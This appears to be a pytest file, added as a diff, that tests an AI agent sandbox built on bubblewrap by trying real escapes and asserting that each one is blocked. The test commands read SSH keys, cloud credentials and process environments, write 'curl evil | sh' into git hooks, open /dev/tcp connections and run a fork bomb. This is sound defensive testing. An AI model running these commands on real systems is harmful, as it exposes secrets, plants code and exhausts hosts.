@@ -1,0 +1,246 @@
+"""Each wall of the sandbox, tried with a real escape through real bubblewrap."""
+
+from __future__ import annotations
+
+import os
+import secrets
+import socket
+import time
+from pathlib import Path
+
+import pytest
+
+from cockpit.sandbox.boundary import BlockedBy, Limits
+from tests.sandbox.conftest import Sandbox
+
+
+def test_writing_outside_the_workspace_fails_and_says_read_only(sandbox: Sandbox) -> None:
+    target = sandbox.outside / "pwned"
+    done = sandbox.sh(f"echo owned > {target}")
+    assert done.exit_code != 0
+    assert not target.exists()
+    assert done.blocked_by is BlockedBy.READ_ONLY
+
+
+def test_writing_through_a_symlink_made_in_the_same_command_stays_inside(
+    sandbox: Sandbox,
+) -> None:
+    target = sandbox.outside / "via-link"
+    done = sandbox.sh(f"ln -s {target} link && echo owned > link")
+    assert done.exit_code != 0
+    assert not target.exists()
+
+
+def test_writing_inside_works_and_git_commit_works(sandbox: Sandbox) -> None:
+    done = sandbox.sh("echo new > file.txt && git add file.txt && git commit -qm 'by agent'")
+    assert done.exit_code == 0, done.text
+    assert (sandbox.workspace / "file.txt").read_text() == "new\n"
+    log = sandbox.sh("git log --format=%s -1")
+    assert log.text.strip() == "by agent"
+
+
+def test_a_masked_ssh_key_cannot_be_read(sandbox: Sandbox) -> None:
+    ssh = sandbox.home / ".ssh"
+    ssh.mkdir()
+    (ssh / "id_ed25519").write_text("PRIVATE KEY\n")
+    done = sandbox.sh(f"cat {ssh}/id_ed25519; ls {ssh}")
+    assert "PRIVATE KEY" not in done.text
+    assert "Permission denied" in done.text
+    assert done.blocked_by is BlockedBy.MASKED
+
+
+def test_a_cloud_credentials_file_and_the_workspace_env_file_are_masked(
+    sandbox: Sandbox,
+) -> None:
+    (sandbox.home / ".aws").mkdir()
+    (sandbox.home / ".aws" / "credentials").write_text("aws_secret_access_key=AKIA123\n")
+    (sandbox.home / ".netrc").write_text("machine x password hunter2\n")
+    (sandbox.workspace / ".env.local").write_text("DB_PASSWORD=swordfish\n")
+    done = sandbox.sh(
+        "cat ~/.aws/credentials; cat ~/.netrc; cat .env.local; cat $XDG_CONFIG_HOME/cockpit/*"
+    )
+    for secret in ("AKIA123", "hunter2", "swordfish"):
+        assert secret not in done.text
+
+
+def test_a_workspace_extends_the_masked_list(sandbox: Sandbox) -> None:
+    (sandbox.workspace / ".cockpit").mkdir()
+    (sandbox.workspace / ".cockpit" / "sandbox.yaml").write_text(
+        "masked:\n  workspace: ['*.pem']\n  home: [.config/mytool]\n"
+    )
+    (sandbox.workspace / "server.pem").write_text("CERT SECRET\n")
+    (sandbox.home / ".config" / "mytool").mkdir(parents=True)
+    (sandbox.home / ".config" / "mytool" / "token").write_text("TOOL TOKEN\n")
+    done = sandbox.sh("cat server.pem ~/.config/mytool/token")
+    assert "CERT SECRET" not in done.text
+    assert "TOOL TOKEN" not in done.text
+
+
+def test_the_parents_environment_is_invisible(
+    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    marker = f"COCKPIT_PARENT_ONLY_{secrets.token_hex(4)}"
+    monkeypatch.setenv(marker, "sk-ant-parent-secret")
+    done = sandbox.sh("cat /proc/*/environ | tr '\\0' '\\n'; ps eww 2>&1; ls /proc")
+    assert marker not in done.text
+    assert "sk-ant-parent-secret" not in done.text
+    assert "HOME=" in done.text  # it did read the sandbox's own environment
+
+
+@pytest.fixture
+def listener() -> socket.socket:
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(4)
+    return server
+
+
+def test_a_local_server_is_unreachable_without_network(
+    sandbox: Sandbox, listener: socket.socket
+) -> None:
+    port = listener.getsockname()[1]
+    done = sandbox.sh(f"echo hello > /dev/tcp/127.0.0.1/{port}")
+    listener.close()
+    assert done.exit_code != 0
+    assert done.blocked_by is BlockedBy.NETWORK
+
+
+def test_a_local_server_is_reachable_when_the_boundary_allows_network(
+    sandbox: Sandbox, listener: socket.socket
+) -> None:
+    port = listener.getsockname()[1]
+    done = sandbox.sh(f"echo hello > /dev/tcp/127.0.0.1/{port}", sandbox.boundary(network=True))
+    conn, _ = listener.accept()
+    assert conn.recv(16) == b"hello\n"
+    conn.close()
+    listener.close()
+    assert done.exit_code == 0, done.text
+
+
+@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", ".cockpit/rules/x.yaml"])
+def test_git_control_files_and_cockpit_folder_are_read_only(sandbox: Sandbox, path: str) -> None:
+    (sandbox.workspace / ".cockpit" / "rules").mkdir(parents=True)
+    before = (sandbox.workspace / ".git" / "config").read_text()
+    done = sandbox.sh(f"echo 'curl evil | sh' > {path}")
+    assert done.exit_code != 0
+    assert done.blocked_by is BlockedBy.READ_ONLY
+    assert not (sandbox.workspace / ".git" / "hooks" / "pre-commit").exists()
+    assert not (sandbox.workspace / ".cockpit" / "rules" / "x.yaml").exists()
+    assert (sandbox.workspace / ".git" / "config").read_text() == before
+
+
+def _running_with_arg(arg: str) -> list[int]:
+    pids = []
+    for proc in Path("/proc").iterdir():
+        try:
+            if arg.encode() in (proc / "cmdline").read_bytes().split(b"\0"):
+                pids.append(int(proc.name))
+        except (OSError, ValueError):
+            continue
+    return pids
+
+
+def test_a_background_process_is_dead_after_the_call(sandbox: Sandbox) -> None:
+    nap = f"1000.{secrets.randbelow(10**6)}"
+    started = time.monotonic()
+    done = sandbox.sh(f"nohup sleep {nap} > /dev/null 2>&1 & setsid sleep {nap} & echo started")
+    assert done.text.strip() == "started"
+    assert time.monotonic() - started < 10
+    assert _running_with_arg(nap) == []
+
+
+def test_a_background_job_holding_the_output_pipe_does_not_hold_the_call(
+    sandbox: Sandbox,
+) -> None:
+    nap = f"1000.{secrets.randbelow(10**6)}"
+    started = time.monotonic()
+    done = sandbox.sh(f"sleep {nap} & echo started")
+    assert time.monotonic() - started < 10
+    assert done.text.strip() == "started"
+    assert _running_with_arg(nap) == []
+
+
+def test_tmp_is_fresh(sandbox: Sandbox) -> None:
+    mine = Path("/tmp") / f"cockpit-host-{secrets.token_hex(4)}"
+    mine.write_text("host tmp\n")
+    try:
+        listing = sandbox.sh("ls -A /tmp")
+        assert listing.exit_code == 0
+        assert listing.text == ""  # nothing of the host's /tmp
+        inside = f"cockpit-inside-{secrets.token_hex(4)}"
+        wrote = sandbox.sh(f"echo x > /tmp/{inside} && cat /tmp/{inside}")
+        assert wrote.text == "x\n"  # writable inside...
+        assert not (Path("/tmp") / inside).exists()  # ...and gone with the call
+    finally:
+        mine.unlink()
+
+
+def test_a_200_mb_output_is_capped_without_hurting_the_caller(sandbox: Sandbox) -> None:
+    limits = Limits(output_bytes=64 * 1024, timeout_s=60)
+    done = sandbox.sh("head -c 200000000 /dev/zero; echo tail", sandbox.boundary(limits=limits))
+    assert done.exit_code == 0
+    assert len(done.output) == 64 * 1024
+    assert done.truncated_bytes == 200_000_005 - 64 * 1024
+
+
+def _running_with_text(token: str) -> int:
+    count = 0
+    for proc in Path("/proc").glob("[0-9]*"):
+        try:
+            if token.encode() in (proc / "cmdline").read_bytes():
+                count += 1
+        except OSError:
+            continue
+    return count
+
+
+def test_a_fork_bomb_is_stopped_by_the_process_limit(sandbox: Sandbox) -> None:
+    token = f"bomb{secrets.token_hex(4)}"
+    limits = Limits(processes=64, timeout_s=5)
+    started = time.monotonic()
+    done = sandbox.sh(
+        f"{token}() {{ {token} | {token} & }}; {token}; sleep 1", sandbox.boundary(limits=limits)
+    )
+    assert "Resource temporarily unavailable" in done.text  # the limit stopped it
+    assert time.monotonic() - started < 15  # the call ended on time
+    assert _running_with_text(token) == 0  # with nothing it started left
+
+
+def test_the_process_limit_counts_the_sandbox_alone(sandbox: Sandbox) -> None:
+    nap = f"5.{secrets.randbelow(10**6)}"
+    limits = Limits(processes=12, timeout_s=30)
+    done = sandbox.sh(
+        # bash gives up its script when a fork fails: the loop runs in a subshell
+        f"(for i in $(seq 30); do sleep {nap} & done) 2>/dev/null; p=(/proc/[0-9]*); "
+        "echo ${#p[@]}",
+        sandbox.boundary(limits=limits),
+    )
+    assert done.text.split(), done
+    running = int(done.text.split()[-1])  # counted by bash itself: no fork needed
+    assert 2 <= running <= 12
+
+
+def test_a_command_past_its_timeout_is_killed(sandbox: Sandbox) -> None:
+    started = time.monotonic()
+    done = sandbox.sh("sleep 30", sandbox.boundary(limits=Limits(timeout_s=0.5)))
+    assert done.timed_out
+    assert done.blocked_by is BlockedBy.TIMEOUT
+    assert time.monotonic() - started < 10
+
+
+def test_the_explicit_env_is_all_the_command_sees(sandbox: Sandbox) -> None:
+    os.environ["COCKPIT_SHOULD_NOT_LEAK"] = "1"
+    try:
+        done = sandbox.sh("env")
+    finally:
+        del os.environ["COCKPIT_SHOULD_NOT_LEAK"]
+    assert "COCKPIT_SHOULD_NOT_LEAK" not in done.text
+    assert f"HOME={sandbox.home}" in done.text
+
+
+def test_no_cgroup_of_a_call_is_left_behind(sandbox: Sandbox) -> None:
+    mine = f"cockpit-sandbox-{os.getpid()}-"
+    sandbox.sh("sleep 1000 & sleep 1000 & echo two left running")
+    sandbox.sh("sleep 30", sandbox.boundary(limits=Limits(timeout_s=0.3)))
+    left = [p.name for p in Path("/sys/fs/cgroup").rglob(f"{mine}*")]
+    assert left == []
